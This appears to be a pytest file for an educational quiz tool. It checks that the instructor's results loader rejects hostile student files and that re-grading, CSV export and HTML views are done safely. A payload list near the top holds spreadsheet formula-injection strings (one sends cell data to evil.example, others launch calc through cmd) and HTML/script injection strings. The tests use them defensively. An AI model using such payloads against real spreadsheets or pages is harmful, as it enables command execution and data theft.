"""The instructor reads a class's results: safely, re-graded, escaped, exported."""

from __future__ import annotations

import csv
import json
import os

import pytest
import yaml
from conftest import ROOT

from parisbaku import InputError, quiz, results
from parisbaku.quiz.resultsfile import MAX_FILE_BYTES
from parisbaku.quiz.store import FORMAT, ResultsStore, answer_event

# Payloads a hostile class might type or hand-edit into a file.
PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "[click me](http://evil.example/)", "![x](http://evil.example/a.png)",
            "<img src=http://evil.example/b.png>", "<script>alert(1)</script>"]


@pytest.fixture
def bank():
    return quiz.validate_bank(yaml.safe_load(
        (ROOT / "tests" / "fixtures" / "quiz_sample.yaml").read_text(encoding="utf-8")))


def raw_file(student: str, events: list[dict], quiz_id: str = "sample", **top) -> str:
    content = {"format": FORMAT, "version": 2, "student": student,
               "quizzes": {quiz_id: {"title": "Sample", "events": events}}, **top}
    return json.dumps(content)


def answer(question: str, given, correct=True, credit=1.0, attempt=1, **more) -> dict:
    return {"event": "answer", "question": question, "answer": given, "correct": correct,
            "credit": credit, "attempt": attempt, "time": "2026-11-29T08:00:00Z", **more}


@pytest.fixture
def folder(tmp_path, bank):
    """Three students' files written by the quiz's own store, and bad files beside them."""
    where = tmp_path / "class"
    ana = ResultsStore("ana", where)
    ana.record_answer("sample", "Sample", "icj-vote", "a", correct=False, credit=0, attempt=1)
    ana.record_answer("sample", "Sample", "icj-vote", "b", correct=True, credit=1, attempt=2)
    ana.record_answer("sample", "Sample", "big-members", ["a", "b"], correct=False,
                      credit=0.5, attempt=1)  # the bank now gives 2/3: re-graded
    bob = ResultsStore("bob", where)
    bob.record_answer("sample", "Sample", "icj-vote", "a", correct=False, credit=0, attempt=1)
    bob.record_reset("sample", "Sample")
    bob.record_answer("sample", "Sample", "icj-vote", "b", correct=True, credit=1, attempt=1)
    bob.record_answer("sample", "Sample", "ecoprotest-year", "2022", correct=True, credit=1,
                      attempt=1)
    cy = ResultsStore("cy", where)
    cy.record_answer("sample", "Sample", "icj-vote", "a", correct=False, credit=0, attempt=1)
    cy.record_answer("sample", "Sample", "icj-vote", "a", correct=False, credit=0, attempt=2)
    (where / "broken.json").write_text("{oops", encoding="utf-8")
    (where / "notes.json").write_text('{"todo": 1}', encoding="utf-8")
    (where / "dan.json").write_bytes((where / "cy.json").read_bytes())  # cy's, renamed
    (where / "eve.json.unreadable-20261127T000000Z").write_text("x", encoding="utf-8")
    return where


def snapshot(folder):
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}


def test_reading_a_folder_changes_nothing_and_reports_every_bad_file(folder, bank):
    before = snapshot(folder)
    r = results.load(folder, banks=[bank])
    assert snapshot(folder) == before
    assert r.students == ["ana", "bob", "cy"]
    reasons = dict(r.problems)
    assert "not valid JSON" in reasons["broken.json"]
    assert "not a results file" in reasons["notes.json"]
    assert "belongs to 'cy', not 'dan'" in reasons["dan.json"]
    assert "kept aside by the quiz" in reasons["eve.json.unreadable-20261127T000000Z"]


def test_hostile_files_become_listed_problems_and_the_class_still_loads(folder, bank, tmp_path):
    secret = tmp_path / "outside.json"
    secret.write_text(raw_file("zed", [answer("icj-vote", "b")]), encoding="utf-8")
    (folder / "zed.json").symlink_to(secret)  # a file outside the folder
    (folder / "zero.json").symlink_to("/dev/zero")  # would exhaust memory
    os.mkfifo(folder / "pipe.json")  # would hang a plain open()
    (folder / "dir.json").mkdir()
    (folder / "big.json").write_bytes(b" " * (MAX_FILE_BYTES + 1))
    (folder / "first.json").write_text(raw_file("first", [answer("icj-vote", "b",
                                                                 attempt="first")]))
    (folder / "full.json").write_text(raw_file("full", [answer("icj-vote", "b",
                                                               credit="full")]))
    for name, credit in [("huge", 1e9), ("minus", -5), ("nan", "NaN"), ("inf", "Infinity")]:
        text = raw_file(name, [answer("icj-vote", "a", credit=0)]).replace(
            '"credit": 0', f'"credit": {credit}')
        (folder / f"{name}.json").write_text(text, encoding="utf-8")
    (folder / "str.json").write_text(raw_file("str", [answer("icj-vote", "a", correct="false")]))
    (folder / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    r = results.load(folder, banks=[bank])
    reasons = dict(r.problems)
    assert "symbolic link" in reasons["zed.json"] and "symbolic link" in reasons["zero.json"]
    assert "not a plain file" in reasons["pipe.json"] and "not a plain file" in reasons["dir.json"]
    assert "more than the limit" in reasons["big.json"]
    assert "event 1, field 'attempt'" in reasons["first.json"]
    assert "field 'credit'" in reasons["full.json"]
    for name in ("huge", "minus", "str"):
        assert "damaged or edited" in reasons[f"{name}.json"], name
    assert "not standard JSON (NaN)" in reasons["nan.json"]
    assert "not standard JSON (Infinity)" in reasons["inf.json"]
    assert "nested too deeply" in reasons["deep.json"]
    assert r.students == ["ana", "bob", "cy"]  # the rest of the class loads


def test_scores_are_re_graded_from_the_answers_not_taken_from_the_file(folder, bank):
    forged = [answer("icj-vote", "a", correct=True, credit=1.0),  # wrong, claims right
              answer("big-members", ["a", "b", "d"], correct=False, credit=0.0),  # right
              answer("gone-question", "b", correct=True, credit=1.0)]  # no longer in the bank
    (folder / "mal.json").write_text(raw_file("mal", forged), encoding="utf-8")
    r = results.load(folder, banks=[bank])
    scores = {(row["student"], row["quiz"]): row for row in r.scores()}
    assert scores[("mal", "sample")] == {"student": "mal", "quiz": "sample", "answered": 2,
                                         "right": 1, "points": 1.0, "to_read": 0,
                                         "not_counted": 1}
    assert scores[("ana", "sample")]["points"] == pytest.approx(1.67)  # 1 + 2/3, re-graded
    assert scores[("bob", "sample")]["answered"] == 2 and scores[("cy", "sample")]["points"] == 0
    claims = {(d["student"], d["question"]): d for d in r.disagreements()}
    assert set(claims) == {("mal", "icj-vote"), ("mal", "big-members"), ("ana", "big-members")}
    assert claims[("mal", "icj-vote")]["claimed"] == "right, 1"
    assert claims[("mal", "icj-vote")]["re-graded"] == "not right, 0"
    assert [(n["student"], n["question"]) for n in r.not_counted()] == [("mal", "gone-question")]
    assert "no longer in the bank" in r.not_counted()[0]["why"]


def test_the_question_summary_shows_what_the_class_found_hard(folder, bank):
    r = results.load(folder, banks=[bank])
    q1 = next(row for row in r.questions("sample") if row["question"] == "icj-vote")
    assert q1["answered"] == 3
    assert q1["right_first_time"] == 1  # bob, after his reset
    assert q1["right_in_the_end"] == 2
    assert q1["mean_credit"] == pytest.approx(0.667)
    assert q1["most_common_wrong_answer"] == "a (3×)"


def test_exercise_answers_are_re_graded_and_free_text_is_to_read(tmp_path):
    from parisbaku import exercises

    store = ResultsStore("dee", tmp_path)
    essay = answer_event("text-neutral-wording", "It cannot say who organised it.", False, 0, 1)
    essay["status"] = "received"
    store.append("exercise:ex1_loaded_terms", "Exercise 1", essay)
    wrong = exercises.grade("text-loaded-count", 3)
    assert wrong.status == "wrong"
    store.record_answer("exercise:ex1_loaded_terms", "Exercise 1", "text-loaded-count", 3,
                        correct=True, credit=1.0, attempt=1)  # a forged "correct"
    r = results.load(tmp_path)
    row = r.scores()[0]
    assert (row["answered"], row["to_read"], row["right"], row["points"]) == (2, 1, 0, 0)
    assert [d["question"] for d in r.disagreements()] == ["text-loaded-count"]


def test_the_csv_neutralises_formulas_quotes_every_cell_and_never_follows_a_link(
    tmp_path, bank
):
    where = tmp_path / "class"
    store = ResultsStore("ana", where)
    for n, payload in enumerate(PAYLOADS):
        store.record_answer("sample", "Sample", "capital-name", payload, correct=False,
                            credit=0, attempt=n + 1)
    (where / "=cmd.json").write_text(raw_file("=cmd", [answer("capital-name", "x")]))
    r = results.load(where, banks=[bank])
    mine = tmp_path / "mine"
    mine.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    (mine / "class.csv").symlink_to(victim)
    out = r.to_csv(mine / "class.csv")
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert not out.is_symlink()
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
        handle.seek(0)
        text = handle.read()
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(results.FORMULA_STARTS)]
    for payload in PAYLOADS:
        expected = "'" + payload if payload.startswith(results.FORMULA_STARTS) else payload
        assert expected in cells, payload
    quoted = [cell for row in rows for cell in row]
    assert text.count('"') >= 2 * len(quoted)  # every cell quoted (QUOTE_ALL)
    assert text.startswith('"student","quiz"')
    with pytest.raises(InputError, match="inside the students' results folder"):
        r.to_csv(where / "class_answers.csv")
    assert not (where / "class_answers.csv").exists()


def test_everything_a_student_controls_is_escaped_in_the_views(tmp_path, bank):
    where = tmp_path / "class"
    where.mkdir()
    for n, payload in enumerate(PAYLOADS):
        events = [answer("capital-name", payload)]
        (where / f"s{n}.json").write_text(raw_file(payload, events))  # a forged student
        (where / f"q{n}.json").write_text(raw_file(f"q{n}", events, quiz_id=payload))
        (where / f"v{n}.json").write_text(raw_file(f"v{n}", events).replace(
            '"version": 2', f'"version": {json.dumps(payload)}'))
    (where / "[x](http:evil.example).json").write_text("{")
    r = results.load(where, banks=[bank])
    shown = r.overview()._repr_html_() + "".join(
        r.table(rows)._repr_html_() for rows in (r.scores(), r.not_counted(),
                                                   r.questions("sample")))
    assert "<img" not in shown and "<script" not in shown and "<a " not in shown
    assert "&lt;img src=http://evil.example/b.png&gt;" in shown
    assert "](http" in shown  # Markdown link syntax arrives as text in HTML: inert


def test_a_table_for_the_notebook_and_a_clear_error_for_a_wrong_folder(folder, tmp_path, bank):
    frame = results.load(folder, banks=[bank]).table()
    assert list(frame.columns) == list(results.SCORE_COLUMNS)
    assert len(frame) == 3
    with pytest.raises(InputError, match="no results folder"):
        results.load(tmp_path / "nowhere")
    empty = results.load(tmp_path / "nowhere", missing_ok=True)
    assert empty.students == [] and "No results folder" in empty.overview()


def test_an_example_class_is_written_through_the_store_and_reads_back(tmp_path, bank):
    r = results.load(results.example_class(tmp_path, bank, students=5, seed=3), banks=[bank])
    assert len(r.students) == 5
    assert [name for name, _ in r.problems] == ["example_student_99.json"]
    assert "5 students" in r.overview() and "1 file could not be used" in r.overview()
    assert not r.disagreements()  # the store saved what the bank grades
    rows = r.questions("sample")
    assert {row["question"] for row in rows} <= {q.id for q in bank.questions}
    assert all(0 <= row["right_in_the_end"] <= row["answered"] <= 5 for row in rows)
    assert any(a.correct for a in r.answers) and any(not a.correct for a in r.answers)


def test_the_lessons_banks_and_the_claim_check_are_found_by_their_keys(tmp_path):
    from parisbaku import claims

    bank = claims.check_bank()
    q = bank.questions[0]
    ResultsStore("ana", tmp_path).record_answer(bank.key, bank.title, q.id, q.answer,
                                                correct=True, credit=1, attempt=1)
    first = quiz.load_bank(quiz.bank_ids()[0])
    ResultsStore("bob", tmp_path).record_answer(first.key, first.title, first.questions[0].id,
                                                first.questions[0].right_response(),
                                                correct=True, credit=1, attempt=1)
    r = results.load(tmp_path)
    assert sorted((row["student"], row["right"]) for row in r.scores()) == [("ana", 1),
                                                                            ("bob", 1)]
